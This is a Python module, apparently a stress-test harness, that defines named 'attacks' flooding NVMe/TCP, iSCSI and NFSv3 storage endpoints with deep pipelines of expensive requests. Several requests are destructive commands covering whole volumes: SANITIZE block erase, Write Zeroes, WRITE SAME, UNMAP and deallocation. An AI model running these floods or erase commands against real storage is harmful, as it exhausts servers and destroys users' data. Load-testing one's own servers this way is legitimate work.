"""Peers that request as much work as possible: pipelined, over one connection, and they read all answers."""

from __future__ import annotations

import contextlib
import struct
from collections.abc import Callable, Generator
from dataclasses import dataclass
from threading import Event

import raw_nfs
from raw_iscsi import Session, cdb_16
from raw_nvme import DISCOVERY, Controller

BLOCK = 512
MEBIBYTE = 1 << 20
DEEP = 1000
"""Depth of the directory tree, almost the maximum."""
NAMES = 4_000

Step = Callable[[], object]
Steps = Generator[tuple[Step, Step]]
Requests = Callable[[str, int], Steps]
"""For an endpoint and its volume's size: pairs of functions that send a request and receive its answer."""


@dataclass(frozen=True)
class Attack:
    name: str
    protocol: str
    depth: int
    """Outstanding requests."""
    requests: Requests


def attack(by: Attack, endpoint: str, volume_bytes: int, begun: Event, enough: Event) -> None:
    """Sends requests until `enough` is set, `depth` of them outstanding, and receives all answers. Sets `begun` when
    that many are outstanding."""
    waiting: list[Step] = []
    with contextlib.closing(by.requests(endpoint, volume_bytes)) as steps:
        for send, take in steps:
            send()
            waiting.append(take)
            if len(waiting) == by.depth:
                begun.set()
                waiting.pop(0)()
            if enough.is_set():
                break
        for take in waiting:
            take()


# ------------------------------------------------------------------------------------------------------------- NVMe/TCP


def _nvme(opcode: int, words: Callable[[int], bytes], data: Callable[[int], bytes] = lambda _: b"") -> Requests:
    def requests(endpoint: str, volume_bytes: int) -> Steps:
        with Controller(endpoint, entries=1024) as controller:
            queue = controller.io
            sent = words(volume_bytes), data(volume_bytes)
            while True:
                yield (lambda: queue.send(opcode, 1, *sent)), queue.answer

    return requests


def _whole_ranges(volume_bytes: int) -> bytes:
    return struct.pack("<IIQ", 0, volume_bytes // BLOCK, 0) * 256


def _log_pages(endpoint: str, _: int) -> Steps:
    with Controller(endpoint, subsystem=DISCOVERY) as controller:
        queue, dwords = controller.admin, MEBIBYTE // 4 - 1
        words = struct.pack("<II", 0x70 | (dwords & 0xFFFF) << 16, dwords >> 16)
        while True:
            yield (lambda: queue.send(0x02, 0, words, read_bytes=MEBIBYTE)), queue.answer


# ---------------------------------------------------------------------------------------------------------------- iSCSI


def _iscsi(cdb: Callable[[int], bytes], data: Callable[[int], bytes] = lambda _: b"") -> Requests:
    def requests(endpoint: str, volume_bytes: int) -> Steps:
        with Session(endpoint) as session:
            sent = cdb(volume_bytes), data(volume_bytes)
            while True:
                yield (lambda: session.send(*sent)), session.status

    return requests


def _unmap(volume_bytes: int) -> bytes:
    blocks = min(volume_bytes // BLOCK, 1 << 20) // 255
    descriptors = b"".join(struct.pack(">QI4x", number * blocks, blocks) for number in range(255))
    return struct.pack(">HH4x", len(descriptors) + 6, len(descriptors)) + descriptors


# ------------------------------------------------------------------------------------------------------------------ NFS

_UNCHANGED = struct.pack(">IIIIII", 0, 0, 0, 0, 0, 0)


def _place(directory: bytes, name: bytes) -> bytes:
    return raw_nfs.opaque(directory) + raw_nfs.opaque(name)


def _created(client: raw_nfs.Client, name: bytes) -> bytes:
    return raw_nfs.made(client.call(8, _place(client.root, name) + struct.pack(">I", 0) + _UNCHANGED))


def _directory(client: raw_nfs.Client, parent: bytes, name: bytes) -> bytes:
    return raw_nfs.made(client.call(9, _place(parent, name) + _UNCHANGED))


def _renames(endpoint: str, _: int) -> Steps:
    """Moves a directory back and forth between two of the deepest ones, so each move checks all their ancestors."""
    with raw_nfs.Client(endpoint) as client:
        at = client.root
        for _ in range(DEEP):
            at = _directory(client, at, b"d")
        ends = [_directory(client, at, name) for name in (b"a", b"b")]
        _directory(client, ends[0], b"x")
        while True:
            there, back = (_place(one, b"x") + _place(other, b"x") for one, other in (ends, ends[::-1]))
            yield (lambda: client.send(14, there)), client.answer  # noqa: B023
            yield (lambda: client.send(14, back)), client.answer  # noqa: B023


def _listings(procedure: int, counts: bytes) -> Requests:
    def requests(endpoint: str, _: int) -> Steps:
        with raw_nfs.Client(endpoint) as client:
            many = _directory(client, client.root, b"many")
            for number in range(NAMES):
                client.send(8, _place(many, b"%05d" % number) + struct.pack(">I", 0) + _UNCHANGED)
                if number >= 64:
                    client.answer()
            for _ in range(64):
                client.answer()
            arguments = raw_nfs.opaque(many) + bytes(16) + counts
            while True:
                yield (lambda: client.send(procedure, arguments)), client.answer

    return requests


def _dumps(endpoint: str, _: int) -> Steps:
    with raw_nfs.Client(endpoint) as client:
        for number in range(1100):
            client.call(
                1, raw_nfs.opaque(b"/" + endpoint.split("/")[3].encode() + b"/." * (number % 30)), raw_nfs.MOUNT
            )
        while True:
            yield (lambda: client.send(2, b"", raw_nfs.MOUNT)), client.answer


def _mounts(endpoint: str, _: int) -> Steps:
    export = b"/" + endpoint.split("/")[3].encode()
    with raw_nfs.Client(endpoint) as client:
        number = 0
        while True:
            number += 1
            path = raw_nfs.opaque(export + b"".join(b"/." if number >> bit & 1 else b"//." for bit in range(14)))
            yield (lambda: client.send(1, path, raw_nfs.MOUNT)), client.answer  # noqa: B023


def _sparse_reads(endpoint: str, _: int) -> Steps:
    with raw_nfs.Client(endpoint) as client:
        file = raw_nfs.opaque(_created(client, b"sparse"))
        client.call(2, file + struct.pack(">IIIIQIII", 0, 0, 0, 1, 1 << 30, 0, 0, 0))
        while True:
            yield (lambda: client.send(6, file + struct.pack(">QI", 0, MEBIBYTE))), client.answer


ATTACKS = (
    Attack(
        "Dataset Management, 256 ranges of all",
        "nvme-tcp",
        128,
        _nvme(0x09, lambda _: struct.pack("<II", 255, 4), _whole_ranges),
    ),
    Attack("Write Zeroes of 32 MiB", "nvme-tcp", 128, _nvme(0x08, lambda _: struct.pack("<QI", 0, 0xFFFF))),
    Attack("Get Log Page of 1 MiB, discovery", "nvme-tcp", 30, _log_pages),
    Attack(
        "UNMAP of 255 descriptors",
        "iscsi",
        128,
        _iscsi(lambda _: struct.pack(">B6xHx", 0x42, 8 + 255 * 16), _unmap),
    ),
    Attack("WRITE SAME of 32 MiB", "iscsi", 128, _iscsi(lambda _: cdb_16(0x93, 0, 0, 0xFFFF), lambda _: b"\1" * BLOCK)),
    Attack("SANITIZE, block erase", "iscsi", 128, _iscsi(lambda _: bytes([0x48, 2, 0, 0, 0, 0, 0, 0, 0, 0]))),
    Attack("GET LBA STATUS", "iscsi", 128, _iscsi(lambda _: struct.pack(">BBQIBB", 0x9E, 0x12, 0, 4096, 0, 0))),
    Attack(
        "COMPARE AND WRITE of 255 blocks",
        "iscsi",
        16,
        _iscsi(lambda _: struct.pack(">BBQ3sBBB", 0x89, 0, 64, bytes(3), 255, 0, 0), lambda _: bytes(510 * BLOCK)),
    ),
    Attack("ORWRITE of 256 KiB", "iscsi", 16, _iscsi(lambda _: cdb_16(0x8B, 0, 0, 512), lambda _: bytes(512 * BLOCK))),
    Attack("RENAME 1,000 levels deep", "nfs3", 512, _renames),
    Attack("READDIR of 4,000 names", "nfs3", 128, _listings(16, struct.pack(">I", 65536))),
    Attack("READDIRPLUS of 4,000 names", "nfs3", 128, _listings(17, struct.pack(">II", 65536, 65536))),
    Attack("DUMP of all mounts", "nfs3", 256, _dumps),
    Attack("MNT by a new name each", "nfs3", 256, _mounts),
    Attack("READ of 1 MiB of a sparse file", "nfs3", 64, _sparse_reads),
)
